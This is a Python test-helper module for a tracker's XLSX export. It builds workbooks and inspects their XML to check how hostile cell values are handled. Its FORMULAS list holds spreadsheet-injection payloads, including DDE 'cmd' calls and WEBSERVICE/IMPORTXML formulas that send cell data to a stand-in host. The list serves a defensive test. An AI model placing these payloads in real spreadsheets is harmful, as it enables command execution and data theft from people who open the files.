"""Workbooks written for a test, and ways to look into them."""

import re
from collections.abc import Iterator, Sequence
from io import BytesIO
from zipfile import ZipFile

from lxml import etree
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from tracker.exports.xlsx import Book, Cell, Column, Layout

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PLAIN = Layout()

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example";"Your badge")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "={1,2}",
    "+1+1",
    "+32 2 555 01 01",
    "-1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "007",
    "2026-11-17",
)  # fmt: skip
"""What a stranger may type in place of a name, to have a spreadsheet work for them or mistake it for something else."""


def written(
    columns: Sequence[Column], *rows: Sequence[Cell], layout: Layout = PLAIN, title: str = "Delegates"
) -> bytes:
    """A workbook of one sheet."""
    target = BytesIO()
    with Book() as book:
        with book.sheet(title, columns, layout) as sheet:
            for row in rows:
                sheet.write(row)
        book.save(target)
    return target.getvalue()


def read(workbook: bytes) -> Worksheet:
    """The first sheet as openpyxl reads it."""
    sheet = load_workbook(BytesIO(workbook)).worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def sheet_roots(workbook: bytes) -> Iterator[etree._Element]:
    """The XML of every sheet."""
    with ZipFile(BytesIO(workbook)) as files:
        for name in files.namelist():
            if name.startswith("xl/worksheets/sheet"):
                yield etree.fromstring(files.read(name))


def root(workbook: bytes, name: str) -> etree._Element:
    """The XML of one part of the file."""
    with ZipFile(BytesIO(workbook)) as files:
        return etree.fromstring(files.read(name))


def seen(text: str) -> str:
    """The text that Excel shows for text of the XML (ST_Xstring, ECMA-376 part 1, 22.9.2.19); openpyxl leaves it."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), text)
